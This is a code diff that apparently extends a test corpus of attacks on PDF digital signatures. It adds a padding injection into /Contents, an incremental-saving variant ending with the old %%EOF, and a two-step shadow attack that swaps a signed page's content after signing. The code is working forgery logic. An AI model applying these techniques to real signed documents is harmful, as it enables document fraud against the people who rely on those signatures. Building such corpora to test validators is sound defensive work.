@@ -213,6 +213,19 @@ def usf_zero_byterange(pdf: bytes) -> bytes:
     return pdf[: match.start()] + replacement + pdf[match.end() :]
 
 
+def contents_padding(pdf: bytes) -> bytes:
+    """Data written into the zero padding after the CMS object in /Contents (unsigned bytes
+    that parsers stopping at the end of the DER object never look at)."""
+    start, end = _contents_span(pdf)
+    hex_value = pdf[start + 1 : end - 1]
+    hidden = b"DEADBEEF" * 8
+    used = len(hex_value.rstrip(b"0"))
+    used += used % 2  # stay on a byte boundary
+    patched = hex_value[:used] + hidden + hex_value[used + len(hidden) :]
+    assert len(patched) == len(hex_value)
+    return pdf[: start + 1] + patched + pdf[end - 1 :]
+
+
 # --- incremental saving attack (ISA) ---------------------------------------------------------
 
 
@@ -242,6 +255,14 @@ def isa_without_xref(pdf: bytes) -> bytes:
         + b"\nendstream\nendobj\n"
         + f"{page_number} 0 obj\n<< /Type /Page /Contents {new} 0 R >>\nendobj\n".encode()
     )
+
+
+def isa_without_xref_eof(pdf: bytes) -> bytes:
+    """As :func:`isa_without_xref`, ending with the *old* ``startxref`` and ``%%EOF``: nothing
+    trails the last marker, strict readers still see the signed revision, lenient viewers
+    reconstruct the file and show the appended objects."""
+    startxref = re.findall(rb"startxref\s+(\d+)\s+%%EOF", pdf)[-1]
+    return isa_without_xref(pdf) + b"startxref\n" + startxref + b"\n%%EOF\n"
 
 
 def append_after_eof(pdf: bytes) -> bytes:
@@ -422,6 +443,45 @@ def shadow_hide_overlay(signed: bytes) -> bytes:
     return _append_revision(signed, edit)
 
 
+SHADOW_TEXT = b"BT /F1 24 Tf 72 700 Td (SHADOW CONTENT) Tj ET"
+
+
+def shadow_prepare(unsigned: bytes) -> bytes:
+    """Shadow attack, step 1 (before signing): plant an unreferenced content stream.
+
+    It renders nowhere, so the signer sees an innocent page; the sanitizer of underlying
+    documents drops exactly such unreferenced objects.
+    """
+    import pikepdf
+
+    with pikepdf.open(io.BytesIO(unsigned)) as pdf:
+        hidden = pdf.make_indirect(pikepdf.Stream(pdf, SHADOW_TEXT))
+        # keep it from being garbage-collected on save, without referencing it from a page
+        pdf.trailer["/ShadowKeep"] = hidden
+        out = io.BytesIO()
+        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
+    data = out.getvalue()
+    # drop the keeper from the trailer text (same length): the object stays, unreferenced
+    return data.replace(b"/ShadowKeep", b"/ShadowKeeq")
+
+
+def shadow_switch(signed: bytes) -> bytes:
+    """Shadow attack, step 2 (after signing): an update that only re-points the page's
+    /Contents at the planted stream; no new content object is added."""
+    match = re.search(
+        rb"(\d+) 0 obj\s*<<\s*/Length \d+\s*>>\s*stream\r?\n" + re.escape(SHADOW_TEXT), signed
+    )
+    assert match is not None, "the prepared document holds no planted stream"
+    hidden = int(match.group(1))
+
+    def edit(writer: IncrementalPdfFileWriter) -> None:
+        page = writer.root["/Pages"]["/Kids"][0].get_object()
+        page["/Contents"] = generic.IndirectObject(hidden, 0, writer)
+        writer.update_container(page)
+
+    return _append_revision(signed, edit)
+
+
 ATTACKS: dict[str, Callable[[bytes], bytes]] = {
     "usf_zero_contents": usf_zero_contents,
     "usf_remove_contents": usf_remove_contents,
@@ -429,6 +489,8 @@ ATTACKS: dict[str, Callable[[bytes], bytes]] = {
     "usf_zero_byterange": usf_zero_byterange,
     "isa_with_xref": isa_with_xref,
     "isa_without_xref": isa_without_xref,
+    "isa_without_xref_eof": isa_without_xref_eof,
+    "contents_padding": contents_padding,
     "append_after_eof": append_after_eof,
     "signature_wrapping": signature_wrapping,
     "evil_annotation": add_annotation,
